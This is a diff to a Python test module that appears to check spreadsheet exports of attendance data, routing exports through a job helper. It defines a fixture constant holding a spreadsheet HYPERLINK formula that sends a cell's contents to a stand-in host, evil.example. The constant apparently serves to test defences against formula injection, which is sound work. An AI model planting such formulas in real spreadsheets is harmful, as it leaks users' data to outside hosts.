@@ -10,13 +10,17 @@ from openpyxl import load_workbook
 from chalicelib.models import Attendance, Organisation, Project, Session
 from chalicelib.services.text import refused_char
 from tests.api.attendance_helpers import id_number, person
+from tests.api.jobs_helpers import export
 from tests.api.test_projects import PROVINCIAL, fetch
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&C3,"x")'
 
 
 def workbook(api, path, token, **query):
-    status, body = api.get(path, token, **query)
+    # The import template is a fixed small file, still handed out directly; every export is a job.
+    status, body = (
+        api.get(path, token, **query) if path.endswith("import-template") else export(api, path, token, **query)
+    )
     assert status == 200, body
     assert refused_char(body["filename"]) is None and "/" not in body["filename"], body["filename"]
     return load_workbook(io.BytesIO(fetch(body["url"])))
